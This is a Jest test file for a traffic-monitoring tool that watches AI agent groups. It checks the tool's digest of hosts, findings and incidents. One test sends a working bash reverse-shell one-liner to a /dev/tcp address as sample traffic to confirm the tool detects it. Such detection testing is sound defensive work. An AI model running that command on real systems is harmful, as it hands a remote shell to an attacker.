import { describe, expect, test } from '@jest/globals';
import { appendFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Finding } from '../../src/findings/finding.js';
import { FindingsJournal } from '../../src/findings/journal/journal.js';
import type { TrafficDigest } from '../../src/sidecar/digest/digest.generated.js';
import { digestLines } from '../../src/sidecar/digest/digest-lines.js';
import { englishTexts } from '../../src/text/texts.js';
import { recorded } from '../findings/samples.js';
import { temporaryHome, type Home } from './support/homes.js';
import { program } from './support/program.js';
import { echoServer, freshKey, sendAs } from './support/traffic.js';
import { until } from './support/until.js';

async function digestOf(home: Home, ...args: readonly string[]): Promise<TrafficDigest> {
  const ended = await program(['digest', '--json', ...args], { home });
  expect(ended.exitCode).toBe(0);
  return JSON.parse(ended.stdout) as TrafficDigest;
}

/** Nobody is there; what was typed is looked at first. */
const FLEET = { fleet: { reader: { servers: ['nats://127.0.0.1:1'], nkeySeed: { file: 'seed' } } } };

describe('digest', () => {
  test.each([['digest'], ['findings'], ['audit', 'show'], ['fleet', 'digest']])(
    'a time to come is refused, because it would be answered with good news: %s %s',
    async (...command) => {
      const ended = await program([...command, '--since', '2099-01-01'], { home: temporaryHome(FLEET) });
      expect(ended).toMatchObject({ exitCode: 2, stdout: '' });
      expect(ended.stderr).toContain('"--since" names a time that is still to come');
    },
  );

  test('tells what passed, what was found and what belongs together, while it runs and afterwards', async () => {
    const server = await echoServer();
    const home = temporaryHome({ allowHostServices: [server.address] });
    expect((await program(['start'], { home })).exitCode).toBe(0);
    await sendAs('research', home, server, 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n');
    await sendAs('research', home, server, freshKey());
    await sendAs('main', home, server, 'nothing of interest');
    const digest = await until('both findings and three connections', async () => {
      const now = await digestOf(home);
      return now.findings.total >= 2 && now.hosts.connections >= 3 && now.coverage.bytes_seen > 0 ? now : undefined;
    });
    expect(digest).toMatchObject({
      state: 'watching',
      https_inspection: false,
      hosts: { total: 1, new: 1, most: [{ host: server.address, is_new: true }] },
      incidents: { total: 1, newest: [{ agent: 'research', from: server.address, to: server.address }] },
    });
    expect(digest.findings.kinds.map(({ pattern }) => pattern)).toEqual(
      expect.arrayContaining(['reverse_shell', 'ai_api_key']),
    );
    expect(await digestOf(home, '--agent', 'main')).toMatchObject({
      hosts: { connections: 1 },
      findings: { total: 0 },
      incidents: { total: 0 },
    });
    expect((await program(['stop'], { home })).exitCode).toBe(0);
    const { state, findings, incidents, hosts } = await digestOf(home);
    expect(state).toBe('not_running');
    expect({ findings, incidents }).toEqual({ findings: digest.findings, incidents: digest.incidents });
    expect(hosts).toMatchObject({ connections: digest.hosts.connections, bytes_sent: digest.hosts.bytes_sent });
    const told = await program(['digest'], { home });
    expect(told.stdout).toMatch(/^NOT RUNNING.*\n.*HTTPS.*\nSince .*: 1 host in 3 connections/);
    expect(told.stdout.split('\n').length).toBeLessThanOrEqual(16);
  });

  test('is empty where nothing ever ran, and says when a time cannot be read', async () => {
    const home = temporaryHome();
    const { stdout } = await program(['digest', '--since', '7d'], { home });
    expect(stdout).toMatch(/: 0 hosts in 0 connections.*\nNo new hosts\.\n.*\nNothing passed\.\nNo findings\./);
    expect(await program(['digest', '--since', 'lately'], { home })).toMatchObject({ exitCode: 2 });
  });

  test('fits a chat message however much there is', () => {
    const host = (n: number) => ({
      host: `h${n}.example:443`,
      is_new: true,
      connections: 1,
      bytes_sent: 1,
      bytes_received: 1,
    });
    const kind = { direction: 'outbound', severity: 'critical', findings: 9, occurrences: 9 } as const;
    const incident = {
      agent: 'a',
      began: 'b',
      ended: 'e',
      severity: 'high' as const,
      came_in: 1,
      left: 2,
      from: 'f',
      to: 't',
    };
    const lines = digestLines(
      {
        schema_version: 'clawsec-traffic-digest/v1',
        generated_at: '2026-11-05T10:00:00.000Z',
        since: '2026-11-04T10:00:00.000Z',
        state: 'degraded',
        https_inspection: true,
        hosts: {
          counted_since: '2026-11-05T09:00:00.000Z',
          total: 900,
          has_more: true,
          new: 800,
          connections: 5_000,
          bytes_sent: 1e9,
          bytes_received: 1e12,
          most: Array.from({ length: 20 }, (_, n) => host(n)),
        },
        coverage: { bytes_seen: 999_999, bytes_unseen: 1 },
        findings: { total: 90, kinds: Array.from({ length: 10 }, (_, n) => ({ ...kind, pattern: `p_${n}` })) },
        incidents: { total: 7, newest: [incident, incident, incident] },
        warnings: Array.from({ length: 5 }, () => ({ code: 'c', message: 'Something is wrong.' })),
      },
      englishTexts,
    );
    expect(lines.length).toBeLessThanOrEqual(21);
    expect(lines.join('\n').length).toBeLessThan(1_500);
    expect(lines.join('\n')).toMatch(/99\.99 % of the bytes were looked at, 0\.01 % were not/);
    expect(lines.join('\n')).toContain('3 more warnings');
    expect(lines.join('\n')).toContain('More hosts were reached than are remembered');
    // Nobody adds up what is named and takes it for all.
    expect(lines.join('\n')).toContain('and 54 more findings');
    expect(lines.join('\n')).toContain('and 5 more incidents');
  });

  test('one critical finding is named before however many of lower severity', async () => {
    const home = temporaryHome();
    const journal = await FindingsJournal.open({ folder: join(home.path, 'log', 'findings') });
    const now = new Date().toISOString();
    journal.append(recorded(0, { timestamp: now }));
    for (let n = 1; n <= 24; n++) {
      journal.append(recorded(n, { timestamp: now, pattern: `place_${n % 12}`, severity: 'low' }));
    }
    await journal.close();
    const { findings } = await digestOf(home);
    expect(findings.total).toBe(25);
    expect(findings.kinds).toHaveLength(10);
    expect(findings.kinds[0]).toMatchObject({ pattern: 'aws_access_key', severity: 'critical', findings: 1 });
  });

  test('says how many lines of the journal are damaged: what it leaves out is not taken for nothing', async () => {
    const home = temporaryHome();
    const folder = join(home.path, 'log', 'findings');
    const journal = await FindingsJournal.open({ folder });
    journal.append(recorded(0, { timestamp: new Date().toISOString() }));
    await journal.close();
    expect((await digestOf(home)).findings).not.toHaveProperty('skipped_lines');
    const [file = ''] = readdirSync(folder).filter((name) => name.endsWith('.jsonl'));
    appendFileSync(join(folder, file), '{"id": "half of a li\nno line of ours\n');
    expect((await digestOf(home)).findings).toMatchObject({ total: 1, skipped_lines: 2 });
    expect((await program(['digest'], { home })).stdout).toContain('2 damaged lines of the journal were left out.');
  });
});

describe('the status that an agent group gets', () => {
  test('has the digest of that group alone', async () => {
    const server = await echoServer();
    const home = temporaryHome({ allowHostServices: [server.address] });
    expect((await program(['start'], { home })).exitCode).toBe(0);
    await sendAs('red', home, server, freshKey());
    await sendAs('blue', home, server, freshKey());
    const { answerAgent } = await import('../../src/host/agent-action.js');
    const digest = await until('the finding of red', async () => {
      const answer = await answerAgent(home.socket, 'red', 'traffic-status', { digest: true });
      const { digest_24h: own } = answer as { digest_24h: TrafficDigest };
      return own.findings.total > 0 && own.hosts.connections > 0 ? own : undefined;
    });
    expect(digest).toMatchObject({ hosts: { total: 1, connections: 1 }, findings: { total: 1 } });
    expect(await answerAgent(home.socket, 'nobody', 'traffic-status', { digest: true })).toMatchObject({
      digest_24h: { hosts: { total: 0, most: [] }, coverage: { bytes_seen: 0 }, findings: { total: 0 } },
    });
    expect(await answerAgent(home.socket, 'red', 'traffic-status', {})).not.toHaveProperty('digest_24h');
    const page = (await answerAgent(home.socket, 'red', 'traffic-findings', {})) as { findings: Finding[] };
    expect(page.findings).toHaveLength(1);
  });
});
